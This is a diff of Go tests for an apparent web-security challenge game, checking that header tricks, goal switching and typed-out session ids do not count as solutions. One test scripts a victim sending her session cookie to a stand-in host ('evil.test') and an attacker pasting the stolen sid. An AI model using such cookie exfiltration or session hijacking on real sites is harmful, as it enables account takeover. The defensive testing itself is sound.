@@ -157,9 +157,10 @@ func TestGoalGrants(t *testing.T) {
 		t.Errorf("%+v", typed.Task.Verdict)
 	}
 	// The server of the header is not the challenge's.
-	easy := m.then(SetHead{"on", ""}, SetServer("flask-seed"))
-	if easy.Task.On() && worked(t, easy).Task.Solved() != worked(t, m).Task.Solved() {
-		t.Error("another server decides")
+	for _, easy := range []Model{worked(t, m).then(SetHead{"on", ""}).rests(), worked(t, m).then(SetServer("flask-seed")).rests(), worked(t, m).then(SetHead{"seed", "2"}).rests()} {
+		if easy.Task.On() && (easy.Task.Solved() || easy.Task.Fault == "") {
+			t.Errorf("another header is judged: %q", easy.Scenario.Text)
+		}
 	}
 }
 
@@ -181,6 +182,10 @@ func TestNeighbours(t *testing.T) {
 	m := opened(t, "ten-minute-incident", "9").then(TryGoal{}, TryGoal{})
 	if late := worked(t, m); late.Task.Solved() {
 		t.Error("the third try wins")
+	}
+	back := m.then(OpenGoal("one-switch"), OpenGoal("ten-minute-incident"))
+	if back.Task.Tries != 2 || worked(t, back).Task.Solved() {
+		t.Errorf("to go and to come back gives %d tries more", 2-back.Task.Tries)
 	}
 	again := m.then(Restart{})
 	if again.Task.Tries != 0 || again.Task.Seed == m.Task.Seed || !worked(t, again).Task.Solved() {
@@ -244,5 +249,27 @@ func TestLinkToGoal(t *testing.T) {
 	}
 	if m, _ := Start("challenge/make-it-hapen", Settings{}); m.Notice == "" || !strings.Contains(m.Notice, "make-it-happen") || m.Trace == nil {
 		t.Errorf("%q", m.Notice)
+	}
+}
+
+// Who plays sees every screen; Mallory does not. A session id that is typed out wins nothing.
+func TestTypedOut(t *testing.T) {
+	m := opened(t, "make-it-happen", "")
+	for m.CanTakeBack() {
+		m = m.then(TakeBack{})
+	}
+	m = m.then(Act{"alice get /"}, Act{"alice post /login user=alice password=correct-horse"})
+	value := m.stateOf("alice").Jar[0].Value
+	for _, line := range []string{"mallory paste sid=" + value, "mallory let x=" + value + "\nmallory paste sid=$x", "alice get https://evil.test/?c=" + value} {
+		next := m
+		for part := range strings.SplitSeq(line, "\n") {
+			next = next.then(Act{part})
+		}
+		if strings.HasPrefix(line, "alice") {
+			next = next.then(Act{"mallory paste sid=" + value})
+		}
+		if next = next.then(Act{"mallory get /profile"}).rests(); next.Task.Solved() || next.Task.Verdict == nil {
+			t.Errorf("%s wins, or is not judged: %s", line, next.Task.Fault)
+		}
 	}
 }
